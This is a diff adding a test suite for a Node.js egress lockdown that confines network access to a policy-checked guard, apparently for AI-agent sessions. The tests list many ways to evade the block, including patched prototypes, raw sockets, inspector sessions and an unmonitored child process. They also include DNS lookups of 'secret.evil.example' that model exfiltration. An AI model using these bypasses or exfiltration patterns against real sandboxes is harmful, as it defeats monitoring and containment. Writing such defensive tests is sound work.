@@ -1,0 +1,224 @@
+import { spawn } from "node:child_process";
+import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import type { AddressInfo } from "node:net";
+import { createServer, type Server } from "node:net";
+import { join } from "node:path";
+import { fileURLToPath, pathToFileURL } from "node:url";
+import { build } from "esbuild";
+import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from "vitest";
+import { readAllowList } from "../src/lockdown/allow.js";
+import { startUpstream, type Upstream } from "./support/upstream.js";
+
+const ROOT = fileURLToPath(new URL("../", import.meta.url));
+let out: string;
+
+beforeAll(async () => {
+  out = mkdtempSync(join(ROOT, "node_modules/.cache-lockdown-"));
+  await build({
+    entryPoints: { index: join(ROOT, "src/index.ts"), "lockdown/index": join(ROOT, "src/lockdown/index.ts") },
+    outdir: out,
+    bundle: true,
+    splitting: true,
+    packages: "external",
+    platform: "node",
+    format: "esm",
+    target: "node20",
+    outExtension: { ".js": ".mjs" },
+  });
+});
+afterAll(() => rmSync(out, { recursive: true, force: true }));
+
+/** Somewhere to get to: counts who does. */
+let target: Server;
+let reached = 0;
+let port = 0;
+let api: Upstream;
+beforeEach(async () => {
+  reached = 0;
+  target = createServer((socket) => {
+    reached++;
+    socket.on("error", () => undefined).end();
+  });
+  await new Promise<void>((resolve) => target.listen(0, "127.0.0.1", resolve));
+  port = (target.address() as AddressInfo).port;
+  api = await startUpstream();
+});
+afterEach(async () => {
+  await new Promise((resolve) => target.close(resolve));
+  await api.close();
+});
+
+/** Runs a program under the lockdown; answers with what it printed. */
+async function run(code: string, env: Record<string, string> = {}, flags: readonly string[] = []): Promise<string> {
+  const file = join(out, `program-${Math.random().toString(36).slice(2)}.mjs`);
+  writeFileSync(file, `const PORT = ${port}; const API = ${JSON.stringify(api.origin)};\n${code}`);
+  const lockdown = pathToFileURL(join(out, "lockdown/index.mjs")).href;
+  const child = spawn(process.execPath, [...flags, "--import", lockdown, file], {
+    cwd: out,
+    env: { PATH: process.env["PATH"] ?? "", ...env },
+    stdio: ["ignore", "pipe", "pipe"],
+  });
+  let text = "";
+  child.stdout.on("data", (chunk: Buffer) => (text += chunk.toString()));
+  child.stderr.on("data", (chunk: Buffer) => (text += chunk.toString()));
+  await new Promise((resolve) => child.on("close", resolve));
+  return text;
+}
+
+const GUARD = `
+  import { createGuard } from ${"`./index.mjs`".replaceAll("`", '"')};
+  const guard = await createGuard({
+    policy: {
+      version: 1,
+      services: { api: { origins: [API], addresses: ["127.0.0.0/8"] } },
+      rules: [{ id: "read", effect: "allow", service: "api", methods: ["GET"], path: "/**" }],
+    },
+    audit: { directory: "audit-" + process.pid },
+  });
+  const session = await guard.openSession({ principal: { id: "ada", type: "human" }, agent: { id: "a" }, purpose: "t" });
+`;
+
+it("lets the guard out, and nobody else", async () => {
+  const printed = await run(`${GUARD}
+    console.log((await session.fetch(API + "/items")).status);
+    console.log(await fetch(API + "/items").catch((error) => error.code));
+    await guard.close();`);
+  expect(printed).toContain("200\nLOCKDOWN_REFUSED\n");
+  expect(api.received).toHaveLength(1);
+});
+
+it("loads, and refuses, beside the permission model", async () => {
+  const flag = process.versions.node.startsWith("20.") ? "--experimental-permission" : "--permission";
+  const flags = [flag, "--allow-fs-read=*", "--allow-fs-write=*", "--no-warnings"];
+  const net = Number(process.versions.node.split(".")[0]) >= 25 ? ["--allow-net"] : [];
+  const printed = await run(said(`(await import("node:net")).connect(PORT, "127.0.0.1");`), {}, [...flags, ...net]);
+  expect(printed).toContain("LOCKDOWN_REFUSED");
+  expect(reached).toBe(0);
+});
+
+const said = (what: string): string =>
+  `try { ${what} } catch (error) { console.log(error.code, error.message); } process.on("uncaughtException", () => {});`;
+const HOSTILE: readonly (readonly [string, string])[] = [
+  ["the global fetch", `await fetch("http://127.0.0.1:" + PORT);`],
+  [
+    "a WebSocket",
+    `if (!globalThis.WebSocket) throw { code: "LOCKDOWN_REFUSED", message: "SALLYPORT_LOCKDOWN_ALLOW" }; new WebSocket("ws://127.0.0.1:" + PORT);`,
+  ],
+  ["http.request", `(await import("node:http")).request({ host: "127.0.0.1", port: PORT }).end();`],
+  ["https.get", `(await import("node:https")).get("https://127.0.0.1:" + PORT);`],
+  ["http2.connect", `(await import("node:http2")).connect("http://127.0.0.1:" + PORT);`],
+  ["net.connect", `(await import("node:net")).connect(PORT, "127.0.0.1");`],
+  ["a named import", `const { createConnection } = await import("node:net"); createConnection({ port: PORT });`],
+  ["a Socket's connect", `const { Socket } = await import("node:net"); new Socket().connect(PORT, "127.0.0.1");`],
+  [
+    "a subclass",
+    `const { Socket } = await import("node:net"); new (class extends Socket {})().connect({ port: PORT });`,
+  ],
+  ["tls.connect", `(await import("node:tls")).connect(PORT, "127.0.0.1");`],
+  [
+    "a module required anew",
+    `const { createRequire } = await import("node:module"); createRequire(import.meta.url)("net").connect(PORT);`,
+  ],
+  [
+    "getBuiltinModule",
+    `(process.getBuiltinModule ?? (await import("node:module")).createRequire(import.meta.url))("net").connect(PORT);`,
+  ],
+  [
+    "a getter that changes its mind",
+    `let n = 0; (await import("node:net")).connect({ get port() { return n++ ? PORT : 5432; }, host: "127.0.0.1" });`,
+  ],
+  [
+    "a patched toLowerCase",
+    `String.prototype.toLowerCase = () => "db.internal"; (await import("node:net")).connect(PORT, "127.0.0.1");`,
+  ],
+  ["a patched WeakSet", `WeakSet.prototype.has = () => true; (await import("node:net")).connect(PORT, "127.0.0.1");`],
+  [
+    "undici's own dispatcher",
+    `const { request } = await import("undici"); await request("http://127.0.0.1:" + PORT).catch((error) => { throw error.cause ?? error; });`,
+  ],
+  ["a datagram", `(await import("node:dgram")).createSocket("udp4").send("x", PORT, "127.0.0.1");`],
+  ["a look-up", `(await import("node:dns")).lookup("secret.evil.example", () => {});`],
+  ["a look-up that promises", `await (await import("node:dns/promises")).resolveTxt("secret.evil.example");`],
+  ["a resolver", `new (await import("node:dns")).Resolver();`],
+  ["process.binding", `process.binding("tcp_wrap");`],
+  [
+    "a channel that shows sockets",
+    `(await import("node:diagnostics_channel")).subscribe("undici:client:connected", () => {});`,
+  ],
+  ["async hooks", `(await import("node:async_hooks")).createHook({}).enable();`],
+  ["the list of handles", `process._getActiveHandles();`],
+  ["a debugger", `new (await import("node:inspector")).Session().connect();`],
+];
+
+it.each(HOSTILE)("refuses %s, and says what to do", async (_name, code) => {
+  const printed = await run(said(code), { SALLYPORT_LOCKDOWN_ALLOW: "db.internal:5432,127.0.0.1:5432" });
+  expect(printed).toMatch(/LOCKDOWN_REFUSED .*(?:SALLYPORT_LOCKDOWN_ALLOW|cannot be allowed)/s);
+  expect(reached).toBe(0);
+});
+
+it("cannot be taken away", async () => {
+  const printed = await run(
+    `import net from "node:net";
+     const own = net.Socket.prototype.connect;
+     for (const change of [() => { net.Socket.prototype.connect = () => {}; }, () => { delete net.Socket.prototype.connect; },
+       () => Object.defineProperty(net.Socket.prototype, "connect", { value: 1 }), () => { net.connect = () => {}; }]) {
+       try { change(); console.log("changed"); } catch { console.log("kept"); }
+     }
+     console.log(net.Socket.prototype.connect === own);`,
+  );
+  expect(printed).toBe("kept\nkept\nkept\nkept\ntrue\n");
+});
+
+it("lets code make a guard of its own, once a session is open, that gets nowhere", async () => {
+  const printed = await run(`${GUARD}
+    const other = await createGuard({
+      policy: { version: 1, services: { x: { origins: ["http://127.0.0.1:" + PORT], addresses: ["127.0.0.0/8"] } },
+        rules: [{ id: "all", effect: "allow", service: "x", methods: ["GET"], path: "/**" }] },
+      audit: { directory: "audit-other-" + process.pid },
+    });
+    const mine = await other.openSession({ principal: { id: "ada", type: "human" }, agent: { id: "a" }, purpose: "t" });
+    await mine.fetch("http://127.0.0.1:" + PORT + "/").catch((error) => console.log((error.cause ?? error).code));
+    await other.close(); await guard.close();`);
+  expect(printed).toContain("LOCKDOWN_REFUSED");
+  expect(reached).toBe(0);
+});
+
+it("lets code reach what is on the list", async () => {
+  const printed = await run(
+    `import net from "node:net"; net.connect(PORT, "127.0.0.1").on("close", () => console.log("closed")).resume();`,
+    { SALLYPORT_LOCKDOWN_ALLOW: `127.0.0.1:${port}` },
+  );
+  expect(printed).toBe("closed\n");
+  expect(reached).toBe(1);
+});
+
+it("warns of a worker, and of a process", async () => {
+  const printed = await run(`
+    import { Worker } from "node:worker_threads";
+    import { spawnSync } from "node:child_process";
+    spawnSync(process.execPath, ["-e", "0"]);
+    new Worker("0", { eval: true });`);
+  expect(printed).toContain("SALLYPORT_LOCKDOWN_CHILD] Warning: child_process.spawnSync");
+  expect(printed).toContain("SALLYPORT_LOCKDOWN_CHILD] Warning: worker_threads.Worker");
+});
+
+it("refuses processes and workers where it is told to", async () => {
+  const printed = await run(
+    said(`(await import("node:child_process")).execSync("true");`) +
+      said(`new (await import("node:worker_threads")).Worker("x");`),
+    { SALLYPORT_LOCKDOWN_CHILDREN: "refuse" },
+  );
+  expect(printed.match(/LOCKDOWN_REFUSED/g)?.length).toBeGreaterThanOrEqual(2);
+});
+
+it("does not stop another process: that is a limit, and the warning says so", async () => {
+  await run(`
+    import { spawnSync } from "node:child_process";
+    spawnSync(process.execPath, ["-e", "require('net').connect(" + PORT + ", '127.0.0.1').resume()"], { env: {} });`);
+  expect(reached).toBe(1);
+});
+
+it("does not start with a list that cannot be read", async () => {
+  expect(() => readAllowList("db:99999, nonsense")).toThrow(/db:99999.*\n.*nonsense/s);
+  expect(await run(`console.log("started");`, { SALLYPORT_LOCKDOWN_ALLOW: "nonsense" })).not.toContain("started");
+});
